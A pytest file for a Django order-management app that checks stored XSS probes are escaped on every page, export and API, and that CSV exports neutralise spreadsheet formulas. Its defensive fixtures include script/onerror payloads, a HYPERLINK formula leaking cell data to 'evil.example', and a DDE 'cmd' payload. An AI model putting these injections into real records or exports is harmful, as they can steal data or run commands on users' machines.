"""Markup stored in any free-text field is shown escaped, never as markup, on every page.

Every text field of every tenant model (and the names of the retailer and its staff) is filled
with its own payload, `<script>x17</script><img src=x onerror=y17>` for field 17, in a small world
of records built with factories; so are the texts inside JSON fields (custom attributes, invoice
lines, return addresses, intake reasons) and every placeholder of every activity description.
Fields are found from the models, pages from the URL configuration (`tests/urlwalk.py`), so a
new field or page is covered without editing this file.

The sweep opens every page, tab and list (as it is, searched for payloads, and as an htmx
partial), the global search, the exports (CSV; the HTML each PDF is drawn from), the JSON APIs,
and the page each action comes back to, and checks that no HTML shows a payload as markup.
It also counts where each field's payload was shown escaped, so a field no page shows is known.
"""

from __future__ import annotations

import csv
import io
import re
import string
from collections import defaultdict
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any
from urllib.parse import urlencode

import pytest
from django.apps import apps
from django.db import models, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.safestring import mark_safe

from billing.models import PaymentTransaction
from fulfilments.models import Carrier, FulfilmentStatus, Location
from oms import activity
from oms.models import (
    Activity,
    OutboundEmail,
    Retailer,
    SavedView,
    User,
    WebhookDelivery,
    WebhookEndpoint,
)
from oms.roles import Role
from orders.intake.models import IntakeChannel, IntakeMessage
from orders.models import BulkJob, BulkJobItem, HoldRule, TicketMessage
from orders.views.browse import TABS
from returns.models import ReturnAction, ReturnCondition, ReturnReason
from returns.settings_views import KINDS as RETURN_CONFIG_KINDS
from tests.factories import (
    BillingAccountFactory,
    CarrierFactory,
    CommentFactory,
    FulfilmentFactory,
    InvoiceFactory,
    LocationFactory,
    MembershipFactory,
    MemoFactory,
    OrderFactory,
    PaymentFactory,
    PaymentTransactionFactory,
    RetailerFactory,
    ReturnFactory,
    ShipmentEventFactory,
    ShipmentFactory,
    StatusFactory,
    StockFactory,
    TaskFactory,
    TicketFactory,
    UserFactory,
)
from tests.urlwalk import walk

pytestmark = pytest.mark.django_db

APPS = ("oms", "orders", "fulfilments", "returns", "customers", "billing")


def payload(n: int, room: int = 200) -> str:
    """Field n's markup: a script and an image with a handler; a shorter tag in a short field."""
    long = f"<script>x{n}</script><img src=x onerror=y{n}>"
    return long if len(long) <= room else f"<i>x{n}</i>"


# a payload shown as markup, and shown escaped (Django escapes < and > as &lt; and &gt;)
RAW = re.compile(r"<script>x(\d+)|<img src=x onerror=y(\d+)>|<i>x(\d+)</i>")
ESCAPED = re.compile(r"&lt;(?:script|i)&gt;x(\d+)")
IN_DATA = re.compile(r"<(?:script|i)>x(\d+)")  # CSV cells and JSON strings hold the raw text

# Text fields that hold no free text: what the system writes and reads back as identifiers.
NOT_FREE_TEXT = {
    "oms.User.password": "a password hash",
    "oms.Retailer.ref": "the retailer's slug in intake URLs",
    "oms.Retailer.time_zone": "a time zone name, validated",
    "oms.Activity.action": "a dotted action name",
    "oms.Activity.target_type": "a model label",
    "oms.Activity.target_id": "a primary key",
    "oms.Activity.root_type": "a model label",
    "oms.Activity.root_id": "a primary key",
    "oms.OutboundEmail.attachment": "a document reference (kind:id)",
    "oms.OutboundEmail.root_type": "a model label",
    "oms.OutboundEmail.root_id": "a primary key",
    "oms.SavedView.list_name": "a list's URL name",
    "orders.BulkJob.action": "a bulk action's name",
    "orders.BulkJob.output_name": "a file name the job makes",
    "orders.BulkJob.output_type": "a content type",
    "orders.IntakeChannel.code": "the channel's slug in intake URLs",
    "orders.IntakeChannel.secret": "the channel's signing secret, shown nowhere (checked below)",
    "orders.IntakeMessage.event": "create, update or cancel",
    "orders.PaymentTransaction.idempotency_key": "a key the system makes for the gateway",
    "orders.PaymentTransaction.error_code": "the gateway's code: declined or unavailable",
    "billing.DocumentSequence.kind": "a sequence's name",
    "oms.WebhookEndpoint.secret": "the endpoint's signing secret, shown once (checked below)",
    "oms.WebhookDelivery.record_label": "a model label",
    "oms.WebhookDelivery.record_id": "a primary key",
}
# JSON fields: how to put payloads into each (None: it holds no free text)
JSON_FIELDS: dict[str, Callable | None] = {
    "oms.Retailer.languages": None,  # ISO 639-1 codes
    "oms.Activity.data": None,  # filled through every activity description below
    "orders.IntakeChannel.rules": None,  # the channel's switches
    "orders.HoldRule.countries": None,  # ISO codes, checked
    "fulfilments.Fulfilment.history": None,  # times by status
    "orders.BulkJob.params": lambda old, mark: {**old, "reason": mark(), "message": mark("msg")},
    "orders.IntakeMessage.reasons": lambda old, mark: [mark()],
    "fulfilments.Location.zones": lambda old, mark: [*old, mark()],
    "fulfilments.Carrier.zones": lambda old, mark: [*old, mark()],
    "returns.Return.fulfilment_choice": lambda old, mark: {
        **(old or {}),
        "fulfilmentType": "R_RTDC",
        "preferredLocationRef": mark("preferredLocationRef"),
        "address": {"name": mark("address.name"), "street": mark("address.street")},
    },
    "returns.Return.custom_attributes": lambda old, mark: [
        {"name": mark("key"), "type": "STRING", "value": mark("value")}
    ],
    "billing.BillingAccount.custom_attributes": lambda old, mark: {mark("key"): mark("value")},
    "billing.Invoice.lines": lambda old, mark: [
        {**line, "sku": mark("sku"), "name": mark("name")} for line in old
    ],
    "billing.Invoice.billing_address": lambda old, mark: [mark("line")],
    "oms.WebhookEndpoint.events": None,  # event names of the catalogue, checked
    "oms.WebhookDelivery.payload": lambda old, mark: {
        **old,
        "data": {"order": {"ref": mark("data.order.ref"), "note": mark("data.order.note")}},
    },
}


@dataclass
class Payloads:
    """Which payload number is which field: one number per field, whatever its records."""

    fields: dict[int, str] = field(default_factory=dict)
    numbers: dict[str, int] = field(default_factory=dict)

    def number(self, label: str) -> int:
        if label not in self.numbers:
            self.numbers[label] = len(self.fields) + 1
            self.fields[self.numbers[label]] = label
        return self.numbers[label]

    def mark(self, label: str, room: int = 200) -> str:
        return payload(self.number(label), room)


def _label(model, f=None) -> str:
    return f"{model._meta.app_label}.{model.__name__}" + (f".{f.name}" if f else "")


def _text_fields(model) -> list[models.Field]:
    """The fields of a model that can hold a payload."""
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and (f.max_length is None or f.max_length >= 16)  # codes: currency, country, language
        and _label(model, f) not in NOT_FREE_TEXT
        and not isinstance(f, models.GeneratedField)
    ]


def _tenant_models() -> list:
    return [
        model
        for model in apps.get_models()
        if model._meta.app_label in APPS
        and any(f.name == "retailer" for f in model._meta.concrete_fields)
        and model is not Retailer
    ]


def fill_every_text(retailer: Retailer, staff: list[User], marks: Payloads) -> dict[str, int]:
    """Put a payload in every free-text field of every record of the retailer (and of its
    staff, and its own name). Returns how many records each model with such fields had."""
    rows_by_model = {}
    for model in [Retailer, User, *_tenant_models()]:
        if model is Retailer:
            rows = [retailer]
        elif model is User:
            rows = staff
        else:
            rows = list(model.objects.filter(retailer=retailer).order_by("pk"))
        texts = _text_fields(model)
        jsons = [f for f in model._meta.concrete_fields if isinstance(f, models.JSONField)]
        if texts or any(JSON_FIELDS.get(_label(model, f)) for f in jsons):
            rows_by_model[_label(model)] = len(rows)
        for row in rows:
            values = {}
            for f in texts:
                unique = f" #{row.pk}"  # refs, codes and names are unique per retailer
                tail = f"{unique}@example.com" if isinstance(f, models.EmailField) else unique
                text = marks.mark(_label(model, f), (f.max_length or 200) - len(tail))
                values[f.name] = f"{text}{tail}"[: f.max_length]
            for f in jsons:
                filler = JSON_FIELDS.get(_label(model, f))
                if filler is not None:
                    label = _label(model, f)
                    values[f.name] = filler(
                        getattr(row, f.name),
                        lambda part="", label=label: marks.mark(f"{label}[{part}]"),
                    )
            model.objects.filter(pk=row.pk).update(**values)
    return rows_by_model


def record_every_description(order, actor: User, marks: Payloads) -> None:
    """One activity on the order per description the timeline knows, every placeholder a
    payload of its own."""
    for action, text in sorted(activity._DESCRIPTIONS.items()):
        keys = {name for _, name, _, _ in string.Formatter().parse(text) if name}
        Activity.objects.create(
            retailer_id=order.retailer_id,
            actor=actor,
            action=action,
            target_type="orders.order",
            target_id=str(order.pk),
            root_type="orders.order",
            root_id=str(order.pk),
            data={key: marks.mark(f"oms.Activity.data[{action}].{key}") for key in sorted(keys)},
        )


# ---------------------------------------------------------------------------------------------
# the world


@dataclass
class World:
    retailer: Retailer
    admin: User
    colleague: User
    order: Any
    objects: dict[str, Any]
    marks: Payloads
    rows: dict[str, int]


@pytest.fixture
def world() -> World:
    retailer = RetailerFactory(ref="acme", name="Acme Outfitters")
    admin = MembershipFactory(
        user=UserFactory(username="admin"), retailer=retailer, role=Role.ADMIN
    ).user
    colleague = MembershipFactory(
        user=UserFactory(username="colleague"), retailer=retailer, role=Role.AGENT
    ).user
    order = OrderFactory(retailer=retailer, lines=2)
    collected = OrderFactory(retailer=retailer, lines=1, type="CC")  # shows where to collect
    payment = PaymentFactory(order=order, captured=order.total)
    PaymentTransactionFactory(payment=payment)
    failed = PaymentTransactionFactory(
        payment=payment,
        kind=PaymentTransaction.Kind.CAPTURE,
        status=PaymentTransaction.Status.FAILED,
        error_code="declined",
        message="Declined by the bank",
    )
    ShipmentEventFactory(shipment=ShipmentFactory(order=order))
    CommentFactory(order=order, author=colleague)
    MemoFactory(order=order, author=colleague, recipient=admin)
    task = TaskFactory(order=order, assignee=admin, created_by=colleague)
    ticket = TicketFactory(order=order)
    ticket.messages.create(retailer=retailer, sender=TicketMessage.Sender.CUSTOMER, body="Hi")
    ticket.messages.create(
        retailer=retailer, sender=TicketMessage.Sender.AGENT, author=colleague, body="Hello"
    )
    ret = ReturnFactory(
        retailer=retailer,
        order=order,
        custom_attributes=[{"name": "a", "type": "STRING", "value": "b"}],
    )
    parcel = ret.fulfilments.create(
        retailer=retailer, type="R_RTDC", from_location="Home", to_location="Store"
    )
    location = LocationFactory(retailer=retailer)
    StockFactory(location=location, sku=order.lines.first().sku)
    CarrierFactory(retailer=retailer)
    fulfilment = FulfilmentFactory(
        order=order, location=location, status=FulfilmentStatus.ESCALATED
    )
    invoice = InvoiceFactory(order=order, billing_address=["Jane Doe", "Main street 1"])
    account = BillingAccountFactory(customer=order.customer, custom_attributes={"tier": "gold"})
    account.debit_memos.create(
        retailer=retailer, number="DM-1", amount=Decimal("5.00"), currency="EUR", reason="Fee"
    )
    from billing.services import billing_settings

    billing_settings(retailer.pk)
    saved = SavedView.objects.create(
        retailer=retailer,
        owner=admin,
        list_name="orders:order_list",
        name="Mine",
        query="view=open",
        shared=True,
    )
    rule = HoldRule.objects.create(
        retailer=retailer, name="Big order", condition="total_over", amount=Decimal("1.00")
    )
    order.hold_compliance, order.hold_compliance_rule = True, rule
    order.save(update_fields=["hold_compliance", "hold_compliance_rule"])
    channel = IntakeChannel.objects.create(
        retailer=retailer, code="web", name="Web", kind="webstore", secret="never-shown-s3cret"
    )
    message = IntakeMessage.objects.create(
        retailer=retailer,
        channel=channel,
        body='{"id": "W-1"}',
        external_id="W-1",
        status="REJECTED",
        reasons=["customer.email: missing"],
    )
    job = BulkJob.objects.create(
        retailer=retailer,
        action="suspend",
        params={"reason": "Stock check"},
        status=BulkJob.Status.DONE,
        created_by=admin,
        total=1,
        done=1,
        failed=1,
        output=b"Order ref\n",
        output_name="orders.csv",
        output_type="text/csv",
    )
    BulkJobItem.objects.create(
        retailer=retailer,
        job=job,
        order=order,
        status=BulkJobItem.Status.FAILED,
        message="Could not",
        finished_at=timezone.now(),
    )
    OutboundEmail.objects.create(
        retailer=retailer,
        to="a@example.com",
        subject="Your order",
        body="Hello",
        status=OutboundEmail.Status.FAILED,
        last_error="Mailbox full",
        root_type="orders.order",
        root_id=str(order.pk),
    )
    status = StatusFactory(retailer=retailer)
    endpoint = WebhookEndpoint.objects.create(
        retailer=retailer,
        url="https://erp.example.com/hooks",
        events=["order.created"],
        secret="never-shown-s3cret",
    )
    delivery = WebhookDelivery.objects.create(
        retailer=retailer,
        endpoint=endpoint,
        event="order.created",
        event_id="5d0c1f52-9a0e-4d0b-8f6e-0d6c2b1a9e11",
        payload={"type": "order.created", "version": 1},
        status=WebhookDelivery.Status.FAILED,
        attempts=3,
        response_code=500,
        record_label="orders.order",
        record_id=str(order.pk),
    )

    marks = Payloads()
    rows = fill_every_text(retailer, [admin, colleague], marks)
    record_every_description(order, colleague, marks)
    objects = {
        "order": order,
        "collected": collected,
        "task": task,
        "payment": payment,
        "transaction": failed,
        "invoice": invoice,
        "line": order.lines.first(),
        "ticket": ticket,
        "return": ret,
        "parcel": parcel,
        "fulfilment": fulfilment,
        "customer": order.customer,
        "account": account,
        "status": status,
        "saved_view": saved,
        "message": message,
        "job": job,
        "hold_rule": rule,
        "location": Location.objects.filter(retailer=retailer).first(),
        "carrier": Carrier.objects.filter(retailer=retailer).first(),
        "channel": channel,
        "webhook_endpoint": endpoint,
        "webhook_delivery": delivery,
        "reason": ReturnReason.objects.filter(retailer=retailer).first(),
        "action": ReturnAction.objects.filter(retailer=retailer).first(),
        "condition": ReturnCondition.objects.filter(retailer=retailer).first(),
    }
    for obj in objects.values():
        obj.refresh_from_db()
    return World(retailer, admin, colleague, order, objects, marks, rows)


# ---------------------------------------------------------------------------------------------
# the URLs of the world's records: by the URL's namespace and argument


def _pk(name: str) -> Callable[[World], int]:
    return lambda w: w.objects[name].pk


KWARGS: dict[tuple[str, str], Callable[[World], Any]] = {
    ("", "pk"): _pk("saved_view"),
    ("orders", "pk"): _pk("order"),
    ("orders", "task_pk"): _pk("task"),
    ("orders", "payment_pk"): _pk("payment"),
    ("orders", "transaction_pk"): _pk("transaction"),
    ("orders", "invoice_pk"): _pk("invoice"),
    ("orders", "line_pk"): _pk("line"),
    ("orders", "ticket_pk"): _pk("ticket"),
    ("orders", "tab"): lambda w: "items",
    ("fulfilments", "pk"): _pk("fulfilment"),
    ("returns", "pk"): _pk("return"),
    ("returns", "fid"): _pk("parcel"),
    ("customers", "pk"): _pk("customer"),
    ("billing", "pk"): _pk("account"),
    ("billing", "invoice_pk"): _pk("invoice"),
    ("order_statuses", "pk"): _pk("status"),
    ("hold_rules", "pk"): _pk("hold_rule"),
    ("return_config", "kind"): lambda w: "reasons",
    ("return_config", "pk"): _pk("reason"),
    ("intake", "pk"): _pk("message"),
    ("fulfilment_settings", "pk"): _pk("location"),
    ("channel_settings", "pk"): _pk("channel"),
    ("webhook_settings", "pk"): _pk("webhook_endpoint"),
    ("returns_api", "return_id"): _pk("return"),
    ("returns_api", "order_id"): _pk("order"),
    ("storefront_api", "order_id"): _pk("order"),
}
# where one URL's argument names another record than its namespace's
KWARGS_BY_ROUTE = {
    "fulfilment_settings:carrier_edit": {"pk": _pk("carrier")},
    "fulfilment_settings:carrier_toggle": {"pk": _pk("carrier")},
    "orders:bulk_job": {"pk": _pk("job")},
    "orders:bulk_download": {"pk": _pk("job")},
    "webhook_settings:delivery": {"pk": _pk("webhook_delivery")},
    "webhook_settings:redeliver": {"pk": _pk("webhook_delivery")},
}


def kwargs_for(route, world: World) -> dict[str, Any]:
    namespace = route.name.rpartition(":")[0]
    special = KWARGS_BY_ROUTE.get(route.name, {})
    return {key: (special.get(key) or KWARGS[(namespace, key)])(world) for key in route.kwarg_names}


def test_every_url_of_a_record_points_at_the_world():
    missing = sorted(
        {
            (route.name, key)
            for route in walk()
            if not route.is_public
            for key in route.kwarg_names
            if (route.name.rpartition(":")[0], key) not in KWARGS
            and key not in KWARGS_BY_ROUTE.get(route.name, {})
        }
    )
    assert not missing, f"Say which record of the world these URL arguments name: {missing}"


# ---------------------------------------------------------------------------------------------
# the sweep


@dataclass
class Sweep:
    world: World
    pages: int = 0
    unescaped: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    shown: dict[int, set[str]] = field(default_factory=lambda: defaultdict(set))
    in_data: dict[int, set[str]] = field(default_factory=lambda: defaultdict(set))

    def check_html(self, where: str, html: str) -> None:
        self.pages += 1
        for match in RAW.finditer(html):
            n = int(next(g for g in match.groups() if g))
            start = max(0, match.start() - 80)
            self.unescaped.append(
                f"{where}: {self.world.marks.fields.get(n, n)} unescaped: "
                f"…{html[start : match.end() + 20]}…"
            )
        for match in ESCAPED.finditer(html):
            self.shown[int(match.group(1))].add(where)

    def check_data(self, where: str, text: str) -> None:
        self.pages += 1
        for match in IN_DATA.finditer(text):
            self.in_data[int(match.group(1))].add(where)

    def check(self, where: str, response) -> None:
        if response.status_code >= 500:
            self.errors.append(f"{where}: {response.status_code}")
            return
        kind = response.get("Content-Type", "")
        body = b"".join(response.streaming_content) if response.streaming else response.content
        text = body.decode("utf-8", "replace")
        if kind.startswith("text/html"):
            self.check_html(where, text)
        elif kind.startswith(("application/json", "text/csv")):
            self.check_data(where, text)


class PdfSpy:
    """Stands in for WeasyPrint: keeps the HTML a PDF would be drawn from."""

    drawn: list[str] = []

    def __init__(self, string: str = "", **kwargs):
        PdfSpy.drawn.append(string)

    def write_pdf(self, *args, **kwargs) -> bytes:
        return b"%PDF-1.7\n"


def _client(world: World) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(world.admin, backend="django.contrib.auth.backends.ModelBackend")
    return client


def _searches(world: World) -> list[str]:
    """Payloads typed into search boxes: refs, names, emails, tracking numbers as stored."""
    o = world.objects
    return [
        o["order"].ref,
        o["customer"].last_name,
        o["customer"].email,
        o["return"].return_ref,
        o["fulfilment"].ref,
        o["account"].name,
        o["line"].tracking_number,
    ]


def _get_routes():
    return [
        route
        for route in walk()
        if not route.is_state_changing and not route.is_public and route.name not in ("logout",)
    ]


def sweep_pages(sweep: Sweep, client: Client) -> None:
    world = sweep.world
    htmx = {"HX-Request": "true"}
    for route in _get_routes():
        if route.name == "orders:order_tab":
            for tab, _ in TABS:
                url = reverse(route.name, kwargs={"pk": world.order.pk, "tab": tab})
                sweep.check(url, client.get(url))
                sweep.check(
                    f"{url} (htmx)", client.get(url, headers=htmx | {"HX-Target": "order-tab"})
                )
            continue
        if route.name == "return_config:edit":
            for kind, (model, _, _) in RETURN_CONFIG_KINDS.items():
                entry = model.objects.filter(retailer=world.retailer).first()
                url = reverse(route.name, kwargs={"kind": kind, "pk": entry.pk})
                sweep.check(url, client.get(url))
            continue
        url = reverse(route.name, kwargs=kwargs_for(route, world))
        if route.name == "returns_api:returns":
            url += f"?retailerId={world.retailer.pk}"
        sweep.check(url, client.get(url))
        if route.kwarg_names:
            continue
        sweep.check(f"{url} (htmx)", client.get(url, headers=htmx))
        joiner = "&" if "?" in url else "?"
        for text in _searches(world):
            searched = f"{url}{joiner}{urlencode({'q': text, 'query': text})}"
            sweep.check(f"{url} searched", client.get(searched, follow=True))
            sweep.check(f"{url} searched (htmx)", client.get(searched, headers=htmx))


def sweep_actions(sweep: Sweep, client: Client) -> None:
    """Each action posted bare: the page it comes back to, with its message, and any form
    errors it shows. Each is undone before the next."""
    world = sweep.world
    for route in walk():
        if not route.is_state_changing or route.is_public or route.name == "logout":
            continue
        url = reverse(route.name, kwargs=kwargs_for(route, world))
        point = transaction.savepoint_create()
        try:
            response = client.post(url, {}, follow=True)
            sweep.check(f"POST {url}", response)
        finally:
            transaction.savepoint_rollback(point)
    preview = client.post(
        reverse("orders:bulk_preview"),
        {"ids": [world.order.pk], "action": "set_status", "status": "x", "reason": "r"},
    )
    sweep.check("POST bulk preview", preview)


def test_no_page_shows_stored_markup_unescaped(world, monkeypatch):
    # given a world whose every free text is markup
    import weasyprint

    monkeypatch.setattr(weasyprint, "HTML", PdfSpy)
    PdfSpy.drawn = []
    sweep = Sweep(world)
    client = _client(world)

    # when every page, tab, list, search, export, API and action's page is opened
    sweep_pages(sweep, client)
    collected = reverse("orders:order_detail", kwargs={"pk": world.objects["collected"].pk})
    sweep.check(collected, client.get(collected))
    sweep_actions(sweep, client)
    for index, html in enumerate(PdfSpy.drawn):
        sweep.check_html(f"PDF {index}", html)

    # then no HTML shows any of it as markup
    assert sweep.errors == []
    assert sweep.unescaped == [], "\n".join(sweep.unescaped[:20])
    fields = world.marks.fields
    never = sorted(label for n, label in fields.items() if n not in sweep.shown)
    print(
        f"\n{len(fields)} fields x {sweep.pages} pages; {len(fields) - len(never)} shown escaped;"
        f" {len(sweep.in_data)} in CSV or JSON; {len(PdfSpy.drawn)} PDFs drawn;"
        f" never shown in HTML ({len(never)}):",
        *(
            f"{label}{' (in CSV/JSON)' if n in sweep.in_data else ''}"
            for n, label in sorted(fields.items())
            if n not in sweep.shown
        ),
        sep="\n  ",
    )
    # and the sweep really showed them: most fields appear somewhere
    assert len(never) <= len(fields) // 5


def test_every_json_field_is_filled_or_said_to_hold_no_text():
    labels = {
        _label(model, f)
        for model in [Retailer, User, *_tenant_models()]
        for f in model._meta.concrete_fields
        if isinstance(f, models.JSONField)
    }
    assert not labels - set(JSON_FIELDS), "Say how to put a payload in these (JSON_FIELDS)"


def test_the_world_has_a_record_of_every_tenant_model(world):
    empty = sorted(label for label, count in world.rows.items() if count == 0)
    assert not empty, f"Give the world a record of these, so their texts are tried: {empty}"


def test_a_channels_secret_is_shown_nowhere(world):
    client = _client(world)
    for route in _get_routes():
        if route.is_api:
            continue
        response = client.get(reverse(route.name, kwargs=kwargs_for(route, world)))
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert b"never-shown-s3cret" not in body, route.name


def test_the_sweep_finds_markup_a_page_shows_unescaped(world, monkeypatch):
    # given a timeline that marks its descriptions safe, as a careless |safe would
    plain = activity.describe
    monkeypatch.setattr(activity, "describe", lambda entry: mark_safe(plain(entry)))  # noqa: S308
    sweep = Sweep(world)

    # when the sweep opens the order's activity
    url = reverse("orders:order_tab", kwargs={"pk": world.order.pk, "tab": "activity"})
    sweep.check(url, _client(world).get(url))

    # then it reports the payloads shown as markup, by field
    assert any(
        "oms.Activity.data[orders.comment.added].body unescaped" in u for u in sweep.unescaped
    )


# ---------------------------------------------------------------------------------------------
# CSV exports: texts kept whole, and formulas


FORMULAS = {
    "order ref": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "customer name": "+1+2",
    "email": "@SUM(1+2)@example.com",
    "status": "-2+3",
    "invoice number": "=1+2",
    "return ref": "@SUM(A1:A9)",
    "drop-off": "=cmd|' /C calc'!A0",
}


@pytest.fixture
def formulas(retailer, manager):
    """Texts a spreadsheet would run as formulas, where customers, channels and staff can put
    them: order and return refs (channels, the Returns API), names and emails, a status label
    (admins), an invoice number (managers), a drop-off point (the Returns API)."""
    from tests.factories import CustomerFactory

    customer = CustomerFactory(
        retailer=retailer,
        first_name=FORMULAS["customer name"],
        last_name="",
        email=FORMULAS["email"],
    )
    status = StatusFactory(retailer=retailer, label=FORMULAS["status"])
    order = OrderFactory(
        retailer=retailer,
        ref=FORMULAS["order ref"],
        customer=customer,
        status=status,
        invoice_number=FORMULAS["invoice number"],
        lines=1,
    )
    ReturnFactory(
        retailer=retailer,
        order=order,
        return_ref=FORMULAS["return ref"],
        customer_first_name=FORMULAS["customer name"],
        customer_last_name="",
        fulfilment_choice={"preferredLocationRef": FORMULAS["drop-off"]},
    )
    return manager


def _csv_rows(client, name: str) -> list[list[str]]:
    response = client.get(reverse(name))
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


CSV_EXPORTS = ["orders:order_export_csv", "returns:return_export_csv"]


def test_csv_exports_keep_quotes_commas_and_formulas_in_their_cells(formulas, client_for):
    client = client_for(formulas)
    for name in CSV_EXPORTS:
        # when the list is exported
        header, *rows = _csv_rows(client, name)

        # then every row has the header's cells, and the texts come out whole, in one cell each
        assert rows and all(len(row) == len(header) for row in rows), name
        cells = {cell for row in rows for cell in row}
        exported = {text for text in FORMULAS.values() if any(text in cell for cell in cells)}
        assert exported, name


def test_csv_exports_neutralise_formulas(formulas, client_for):
    client = client_for(formulas)
    live, shown = [], set()
    for name in CSV_EXPORTS:
        # when the list is exported
        for row in _csv_rows(client, name)[1:]:
            # then no cell starts a formula; a text that would is kept behind an apostrophe
            live += [(name, cell) for cell in row if cell and cell[0] in "=+-@\t\r"]
            shown |= {cell[1:] for cell in row if cell.startswith("'")}
    assert live == []
    assert set(FORMULAS.values()) <= shown


def test_a_negative_amount_stays_a_number():
    from oms.exports import cell

    assert cell("-12.50") == "-12.50"
    assert cell("-2+3") == "'-2+3"
    assert cell(-3) == -3
